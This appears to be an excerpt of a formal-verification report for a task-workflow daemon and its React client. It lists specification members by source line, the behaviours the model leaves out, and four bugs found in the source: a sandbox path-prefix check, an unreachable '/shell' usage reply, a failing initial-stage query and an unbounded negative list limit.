| WebApi.FetchTasks | web/src/lib/api.ts:82-87 | a failed response rejects; a body that is no array gives no tasks; an array is normalized element by element |
| WebApi.FetchBootstrap | web/src/lib/api.ts:68-74 | a failed response rejects; `tasks` is normalized exactly when it is an array; every other key is kept as sent |
| WebApi.FetchMessages | web/src/lib/api.ts:153-158 | a failed response gives no messages; else the array body, else a truthy `messages`, else none |
| WebApi.FetchTaskReviews | web/src/lib/api.ts:249-254 | a failed response rejects; else `reviews`, or none when that is `null` or missing |
| WebApi.Filter | web/src/components/KanbanBoard.tsx:33 | a filter never lengthens the list |
| WebApi.FilterCount | web/src/components/KanbanBoard.tsx:33 | a filter keeps every copy of a kept task and no copy of another |
| WebApi.FilterAppend | web/src/components/KanbanBoard.tsx:33 | a filter keeps order: the filter of a concatenation is the concatenation of the filters |
| WebApi.ApproveOutcome | web/src/lib/api.ts:274 | the outcome sent is never empty, and is the given one when that is non-empty |
| WebApi.ApproveOutcomeMatchesServer | web/src/lib/api.ts:274 | the client's default outcome is the server's, so an empty outcome approves as `approved` either way |
| WebApi.CreateStatus | web/src/lib/api.ts:95 | the status sent is `todo` when none is given, else the given one |
| WebApi.CreateStatusAccepted | web/src/lib/api.ts:95-103 | a task created with the default status passes the server's status check |
| WebApi.DefaultTablesMatchSeed | web/src/lib/api.ts:127-143 | the client's default stages and transitions are the ones the store seeds |
| WebApi.DefaultWorkflowShape | web/src/lib/api.ts:128-143 | no two transitions share a stage and outcome, every transition joins two stages, and nothing leaves `Done`, the one terminal stage, whose outcomes are empty |
| Kanban.TransitionsShape | web/src/components/KanbanBoard.tsx:8-18 | exactly the seven columns have an entry; every successor is a column different from its status; `done` has none and `failed` goes back to `todo` |
| Kanban.Buttons | web/src/components/KanbanBoard.tsx:92 | a column's buttons are its transitions; a status that is no column has none |
| Kanban.ColumnPlacement | web/src/components/KanbanBoard.tsx:33-79 | a task shows, with all its copies, in the column of its status and in no other; a task whose status is no column, `cancelled` among them, shows nowhere |
| Kanban.ColumnOrder | web/src/components/KanbanBoard.tsx:33 | a column keeps the list's order |
| Kanban.TrimStart | web/src/components/KanbanBoard.tsx:37 | the index is the first character that is not white space |
| Kanban.TrimEnd | web/src/components/KanbanBoard.tsx:37 | the index is just after the last character that is not white space |
| Kanban.Trim | web/src/components/KanbanBoard.tsx:37-40 | the trimmed title neither begins nor ends with white space, and is empty exactly when the title is all white space |
| Kanban.TrimIsSlice | web/src/components/KanbanBoard.tsx:37-40 | the trimmed title is the piece of the title between white space at either end |
| Kanban.Board.constructor | web/src/components/KanbanBoard.tsx:29-30 | an empty title, not busy, nothing sent |
| Kanban.Board.TypeTitle | web/src/components/KanbanBoard.tsx:66 | the title becomes the input text and nothing else changes |
| Kanban.Board.HandleCreate | web/src/components/KanbanBoard.tsx:35-48 | a blank title sends nothing; otherwise one create with the trimmed title and the default status, the input cleared and `onUpdate` called only on success, and not busy afterwards |
| Kanban.Board.HandleStatusChange | web/src/components/KanbanBoard.tsx:50-57 | exactly one patch with only the new status and no check against the transitions; `onUpdate` only on success |
| UseSse.Classify | web/src/hooks/useSSE.ts:16-27 | unparseable data is dropped; the `connected` greeting only marks the stream connected; anything else is forwarded as parsed |
| UseSse.Hook.constructor | web/src/hooks/useSSE.ts:5-11 | the first render is not connected, holds its handler and opens one stream |
| UseSse.Hook.Render | web/src/hooks/useSSE.ts:6-33 | a later render only replaces the handler; no stream is opened |
| UseSse.Hook.OnOpen | web/src/hooks/useSSE.ts:13 | `onopen` marks the stream connected and changes nothing else |
| UseSse.Hook.OnError | web/src/hooks/useSSE.ts:14 | `onerror` marks it disconnected and changes nothing else |
| UseSse.Hook.OnMessage | web/src/hooks/useSSE.ts:16-27 | by the classification: nothing, the connected flag, or exactly one delivery to the current handler |
| UseSse.Hook.Unmount | web/src/hooks/useSSE.ts:29-32 | the stream is closed once and the hook is disconnected |
| UseSse.RenderThenForward | web/src/hooks/useSSE.ts:6-23 | a message after a render goes to that render's handler |
| App.InitialTeam | web/src/App.tsx:54-57 | the selected team is a non-empty `initial_team`, else the first listed team's name, else none |
| App.InitialTeamKnown | web/src/App.tsx:54-57 | a selected team is the one the server named or a listed one |
| App.All | web/src/App.tsx:39 | both lists exactly when both fetches resolve; otherwise the reason of a fetch that rejected |
| App.React | web/src/App.tsx:76-82 | a `task_update` of the selected team refreshes, a `team_update` refetches the teams, and no event does both |
| App.Shell.constructor | web/src/App.tsx:26-51 | nothing loaded, loading, no error, and one bootstrap fetch started |
| App.Shell.Unmount | web/src/App.tsx:69 | the cleanup only sets the cancelled flag |
| App.Shell.BootstrapSettled | web/src/App.tsx:49-70 | after unmount nothing changes; else a body sets the teams and the selected team and seeds tasks and agents only for a selected team, a rejection sets the error, and loading ends |
| App.Shell.Refresh | web/src/App.tsx:34-47 | without a team nothing; otherwise tasks and agents are both replaced when both fetches resolve and both kept otherwise, with the error of a rejected fetch, and loading ends |
| App.Shell.RefreshEffect | web/src/App.tsx:72-74 | a refresh runs exactly with a selected team and a non-empty team list |
| App.Shell.OnEvent | web/src/App.tsx:76-82 | a `task_update` of the selected team refreshes; a `team_update` starts one bootstrap fetch whose body replaces only the team list; no event changes the selected team |
| ReviewPanel.PendingMembers | web/src/components/ReviewPanel.tsx:20 | exactly the tasks with status `in_approval` or stage `InApproval` are pending, every copy of them, in the order fetched |
| ReviewPanel.WithoutMembers | web/src/components/ReviewPanel.tsx:48 | removing a task drops every row with its id and keeps every other row, in order |
| ReviewPanel.ReviewMap | web/src/components/ReviewPanel.tsx:36-37 | every id is a key, and each maps to the reviews fetched for its last occurrence, `[]` when those are `null` or missing |
| ReviewPanel.Panel.constructor | web/src/components/ReviewPanel.tsx:9-17 | nothing pending, loading, no reviews, and the effect's first run started |
| ReviewPanel.Panel.ChangeTeam | web/src/components/ReviewPanel.tsx:15-29 | a new team cancels the running load and starts a new one |
| ReviewPanel.Panel.Unmount | web/src/components/ReviewPanel.tsx:28 | unmounting cancels the current run and changes nothing else |
| ReviewPanel.Panel.TasksSettled | web/src/components/ReviewPanel.tsx:18-27 | a cancelled run changes nothing; else the pending list is the fetched tasks awaiting approval, or empty on failure, and loading ends |
| ReviewPanel.Panel.LoadReviews | web/src/components/ReviewPanel.tsx:31-41 | nothing pending or a failed fetch leaves the reviews alone; otherwise every pending id maps to its reviews |
| ReviewPanel.Panel.HandleApprove | web/src/components/ReviewPanel.tsx:43-54 | one approval with the defaulted outcome; on success `onUpdate`, when given, and the task's rows removed; on failure nothing; the busy marker is cleared in every case |

## Left out

- Concurrency is not modelled: the `runScheduler` goroutines, semaphore and ticker (internal/daemon/scheduler.go:22-188), the manager's `Run` and `PollInbox` loops, the merge worker's `Run` ticker and all mutexes. Each component is modelled as sequential calls, one tick at a time.
- The event hub's subscriber channels, their buffering and the non-blocking fan-out in `internal/httpapi/sse.go` are not modelled. The hub records the payloads published, in order.
- HTTP plumbing is not modelled: mux wiring, CORS, body limits, request logging and JSON encoding of responses. The handlers are modelled on decoded inputs.
- The web client's `fetch` calls are not modelled; each is a settled `Outcome`. Browser `EventSource` reconnection follows the WHATWG HTML Living Standard, section 9.2 (server-sent events), not this code, and so is left out.
- Interleavings of concurrent refreshes or review fetches are not modelled: each asynchronous step runs to completion with the outcome it is given.
- React details are left out: StrictMode's double effects, exceptions thrown by a stream handler, and key stringification in `reviewsByTask`. `Prop` looks up own keys only; prototype keys are not modelled.
- External processes are not run. git and `sh` run only as far as their guard clauses; their results are parameters. `runShellCommand` (internal/manager/manager.go:210-217) is a parameter. bubblewrap is not started; the argument vector it would get is modelled.
- The Slack webhook's HTTP POST is not sent; its status code is a parameter. The LLM manager's OpenAI calls (internal/manager/llm.go) are not part of this model.
- `slog` logging and OpenTelemetry instruments, including the SSE connection counter, are left out: they do not change behaviour.
- YAML and JSON decoding are opaque parse results given as parameters: the human identity file (`LoadHuman`/`SaveHuman`), agent configuration (`internal/memory/agent_config.go`), hub payloads and request bodies.
- `RunTurn` does not model what agent configuration loading decides (model, token limit). The journal append after an agent turn is not modelled in the engine; the journal itself is modelled in `Journal`.
- The workflow engine treats an error from the transitions query like an empty table, so no edge matches.
- `fmt.Sscanf` in the HTTP handlers is given as an `Option` result, not parsed character by character.
- Disk.AppendFile: a failing `WriteString` is folded into the failure to open the file. Both leave the file unchanged and return the error, so `Journal.Append` cannot leave a partly written block.
- Timestamps and `time.Now` are an abstract clock, so the journal's date text is a parameter. `randomHex` and `randomID` are parameters: `CreateWorkflow` takes the id it would draw.
- Daemon management is not part of this model: `internal/daemon/daemon.go`, `internal/daemon/paths.go`, the lock and pprof files, `cmd/*`, and the cobra wrappers other than the `.env` loader. `openBrowser` is left out with them.
- The SQLite connection pragmas and prepared statements (`initPragmas`, `prepareStatements`) are not run. `StoreOpen.Setup` takes the error each returns as a parameter. Migration SQL is not run either: each file's failure is a parameter of the `Database`.
- UI rendering and theming are left out.
- The manager's failed-task requeue branch is not modelled: `shouldRequeueFailed` always returns false (internal/manager/manager.go), so the branch is dead.
- TaskStore.Store.ListTasksInStage: the rows come in insertion order (`StageListing`), not ordered by `updated_at`. With more matching rows than the limit, the source lists the least recently updated ones and the model the first inserted. `MergeWorker.RunOnce` inherits this: it processes a team's `Merging` tasks in insertion order.
- WebApi.DefaultWorkflowShape: does not state that each transition's outcome is listed in its from-stage's comma-separated outcomes (web/src/lib/api.ts:128-143). The client never parses those lists, and splitting the concrete outcome strings is too costly to prove.
- Concrete allowed commands (`go build`, `git status`, `echo`, `ls`, a bare branch name) are not checked on literals, because unfolding the deny list on a literal is too costly. The deny rules are stated for every command in `SandboxDeny`.
- Concrete pool examples are not checked on literal configuration strings, for the same reason. The pool and selection rules are stated for all inputs in `AgentPool`.
- StoreSpec.TeamNewestFirst: lists rows in reverse insertion order. The source orders by `created_at DESC`, so two tasks created in the same second may come in either order there, while the model fixes one.
- StoreSpec.InboxNewestFirst: lists messages in reverse insertion order, as `TeamNewestFirst` lists tasks. The source's `ORDER BY created_at DESC` leaves the order of messages created in the same second to the database.
- TaskStore.Store.CreateTask: uses the corrected initial stage, which ignores rework edges (see Findings). With the seeded default workflow the task is stored with that workflow at `Coding`. The source's query finds no initial stage there, so it stores the task with neither workflow nor stage.
- TaskStore.Store.NewTask: the row `CreateTask` appends, with the same difference for a workflow whose rework edges enter every stage.
- TaskStore.Store.RewindTask: with the seeded default workflow the task is rewound to `Coding`. The source's query fails there, so the rewind is an error and the row is unchanged.
- TaskStore.Store.Rewound: the row `RewindTask` writes, with the same difference.
- TaskStore.Store.GetWorkflowInitialStage: returns `Coding` for the seeded default workflow, where the source's query returns an error.
- Engine.Engine.RunTurn: a task of the seeded default workflow without a stage is entered at `Coding`. In the source the initial-stage query fails, and that failure is the turn's error.
- Engine.Engine.RunInWorkflow: the same difference as `RunTurn`.
- Engine.Engine.EnterStart: the same difference as `RunTurn`.
- HttpApi.Create: a task created on a team with the default workflow gets that workflow at `Coding`, where the source stores it with neither.
- Manager.CreateTaskForTeam: the same difference as `HttpApi.Create`, for tasks the manager creates.
- Manager.HandleEvent: the same difference, through `CreateTaskForTeam`.
- Manager.HandleInboxMessage: uses the corrected `InboxAction` (see Findings). A bare `/shell` gets the usage reply, where the source acknowledges it with `Got: /shell`.
- HttpApi.ListTasks: uses the corrected `ListLimit` (see Findings). `?limit=-1` on SQLite returns at most `PreparedTaskLimit` rows, where the source passes `-1` on and returns every row.
- SandboxWrap.WrapCommand: uses the intended team-under-home test (see Findings). With home `/home/a` and team directory `/srv/xx/t` it mounts the whole home writable, where the source mounts the home read-only and `/srv/xx/t` writable. `WrapCommandDiffers` states that this is the only kind of input where the two differ.
- Subprocess.LaunchCmd: wraps through the corrected `WrapCommand`, so it has the same difference for a team directory outside the sandbox home.
- SandboxDeny.ContainsAnyLower: lowers the patterns with `GoStrings.ToLower`. That function folds the ASCII capitals, the Kelvin sign and the capital I with dot above, as `unicode.ToLower` does, and keeps every other character. The deny lists are ASCII, so the verdicts agree with Go's. A non-ASCII capital in a pattern would not be lowered.
- SandboxDeny.HasAnyPrefixLower: lowers the patterns as `ContainsAnyLower` does, with the same limit.
- Identity.SafeUser: lowers letters as `GoStrings.ToLower` does, so a non-ASCII capital such as `É` is kept where Go writes `é`.
- Migrations.SortByVersion: a stable insertion sort, so migrations with equal versions keep their file order. `sort.Slice` is not stable and promises no order among them; the model fixes one of the orders Go may produce.
- Capabilities.Registry.Notify: quotes the unknown name plainly, where `%q` escapes quotes, backslashes and control characters in it.

## Findings

| source | as written | input that shows it | evidently intended | confidence | as-written member | corrected member |
|---|---|---|---|---|---|---|
| internal/sandbox/sandbox.go:30 | the team directory counts as inside the home when the byte at index `len(home)` is `/`; nothing checks that the home is a prefix | home `/home/a`, team `/srv/xx/t`: the home is mounted read-only and the team directory writable, though it lies outside the home | the team directory is inside the home only when the home followed by `/` is its prefix | not executed | SandboxWrap.TeamOutsideHomeRestricted | SandboxWrap.WritableUnderHome |
| internal/manager/manager.go:169-176 | the content is trimmed before the `/shell ` prefix test, so the rest after the prefix is never blank, and the usage reply can never be sent | `/shell` alone is acknowledged with `Got: /shell` instead of the usage text | a bare `/shell` gets the usage reply | not executed | Manager.UsageUnreachableAsWritten | Manager.InboxActionCorrected |
| internal/store/queries.go:783-815 | the initial stage is the first stage that no transition enters, rework edges included | the workflow seeded at internal/store/queries.go:716-731: `changes_requested` enters `Coding`, so every stage is entered, the query fails, and `CreateTask` stores neither workflow nor stage | the initial stage ignores the `changes_requested` rework edges, so the seeded workflow starts at `Coding` | not executed | StoreSpec.DefaultInitialStageAsWritten | StoreSpec.DefaultInitialStage |
| internal/httpapi/server.go:583-591 | a parsed `limit` is used without a lower bound | `GET /teams/{team}/tasks?limit=-1` on SQLite passes `-1`, so the store's `LIMIT -1` returns every row | a negative limit is treated like a missing one, so the default bound applies | not executed | HttpApi.NegativeLimitUnboundedAsWritten | HttpApi.ListLimitCorrected |
